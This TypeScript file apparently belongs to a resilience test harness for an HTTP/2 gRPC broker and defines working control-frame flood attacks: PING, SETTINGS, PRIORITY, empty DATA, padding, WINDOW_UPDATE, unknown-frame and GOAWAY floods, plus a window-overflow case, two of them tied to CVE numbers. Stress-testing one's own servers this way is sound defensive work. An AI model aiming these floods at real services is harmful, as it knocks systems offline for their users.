/** Frames that carry nothing and cost the attacker almost nothing. */
import { callBlock, END_HEADERS, Frame, frame } from '../../support/http2-frames.ts';
import { type Attack, type ConnectionOptions, Setting, setting, uint32 } from './attacker.ts';

const BURST = 1_000;
const PATH = '/broker.v1.Producer/PublishStream';

/** The same frames again and again; `opening` first. */
function flood(
  burst: (round: number) => Buffer,
  { opening, ...options }: ConnectionOptions & { readonly opening?: Buffer } = {},
): Attack['run'] {
  return (attacker) =>
    attacker.onConnections(4, options, async (connection) => {
      if (opening !== undefined) await connection.write(opening);
      for (let round = 0; !connection.isClosed && !attacker.isOver; round++) {
        await connection.write(burst(round));
        attacker.count('frames', BURST);
        await attacker.breathe();
      }
    });
}

function repeated(one: Buffer): () => Buffer {
  const burst = Buffer.concat(Array.from({ length: BURST }, () => one));
  return () => burst;
}

const OPEN_STREAM = frame(Frame.HEADERS, END_HEADERS, 1, callBlock(PATH));
const PING = frame(Frame.PING, 0, 0, Buffer.alloc(8, 7));

export const CONTROL: readonly Attack[] = [
  { name: 'ping-flood', about: 'PING without end, answers read', run: flood(repeated(PING)) },
  {
    name: 'ping-flood-deaf',
    about: 'PING without end, answers not read',
    run: flood(repeated(PING), { isDeaf: true }),
  },
  {
    name: 'settings-flood',
    about: 'SETTINGS that change the windows of all streams, without end',
    run: flood(
      (round) => repeated(frame(Frame.SETTINGS, 0, 0, setting(Setting.INITIAL_WINDOW_SIZE, 65_535 - (round % 2))))(),
      { opening: OPEN_STREAM },
    ),
  },
  {
    name: 'priority-flood',
    about: 'PRIORITY of streams that do not exist',
    run: flood((round) =>
      Buffer.concat(
        Array.from({ length: BURST }, (_, i) => {
          const stream = ((round * BURST + i) * 2 + 1) & 0x7fff_ffff;
          return frame(Frame.PRIORITY, 0, stream, Buffer.from([0, 0, 0, 0, 16]));
        }),
      ),
    ),
  },
  {
    name: 'empty-data-flood',
    about: 'empty DATA on a publish stream',
    run: flood(repeated(frame(Frame.DATA, 0, 1, Buffer.alloc(0))), { opening: OPEN_STREAM }),
  },
  {
    name: 'padding-flood',
    about: 'DATA that is nothing but padding on a publish stream',
    run: flood(repeated(frame(Frame.DATA, 8, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]))), {
      opening: OPEN_STREAM,
    }),
  },
  {
    name: 'window-update-flood',
    about: 'WINDOW_UPDATE of 1 on a publish stream',
    run: flood(repeated(frame(Frame.WINDOW_UPDATE, 0, 1, uint32(1))), { opening: OPEN_STREAM }),
  },
  {
    name: 'unknown-frames',
    about: 'frames of types that nobody knows',
    run: flood(repeated(frame(200, 0, 0, Buffer.alloc(16)))),
  },
  {
    name: 'goaway-storm',
    about: 'GOAWAY again and again on a connection with a stream (CVE-2026-48937)',
    run: flood(repeated(frame(Frame.GOAWAY, 0, 0, Buffer.concat([uint32(0), uint32(0), Buffer.alloc(64)]))), {
      opening: OPEN_STREAM,
    }),
  },
  {
    name: 'window-overflow',
    about: 'WINDOW_UPDATE beyond 2^31-1 on the connection (CVE-2026-21714)',
    run: flood(repeated(frame(Frame.WINDOW_UPDATE, 0, 0, uint32(0x7fff_ffff))), { opening: OPEN_STREAM }),
  },
];
